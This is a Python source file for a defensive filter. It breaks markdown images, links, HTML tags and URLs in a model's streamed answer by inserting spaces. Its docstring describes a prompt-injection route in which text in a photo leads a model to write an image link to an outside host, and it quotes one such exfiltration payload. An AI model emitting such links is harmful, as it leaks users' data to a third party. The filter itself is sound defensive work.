"""
What an answer must not make a client do: fetch a picture, follow a link, run HTML.

A photo's text can talk a model into writing `![](https://elsewhere/?what-it-knows)`, and clients fetch that as they
render it. So whatever would be an image, a link or an element becomes plain text, by a space at the place where its
syntax must have none. Nothing is ever removed, so nothing can be put together out of the rest; and it makes no
difference whether a client takes the place for code, where the text stays readable.
"""

import re

BREAKS = re.compile(
    r"""
      < (?= [A-Za-z/!?] )    # <img>, </a>, <!-- -->, <?php, and <https://...>
    | \] (?= [(:] )          # [text](address), ![text](address), and [label]: address
    | :// (?= \S )           # an address by itself, in whatever scheme
    | [Ww]{3}\. (?= \S )     # the same without a scheme
    """,
    re.VERBOSE,
)
LONGEST_START = 4  # characters up to the place, of the longest alternative


class MarkupFilter:
    """Passes an answer on piece by piece, however it is cut."""

    def __init__(self) -> None:
        self._before = ""

    def feed(self, piece: str) -> str:
        """The piece with a space wherever it, or what came before it, would start something."""
        text, start = self._before + piece, len(self._before)
        self._before = text[-LONGEST_START:]
        ends = [match.end() for match in BREAKS.finditer(text) if match.end() >= start]
        if not ends:
            return piece
        return " ".join(text[begin:end] for begin, end in zip([start, *ends], [*ends, len(text)], strict=True))
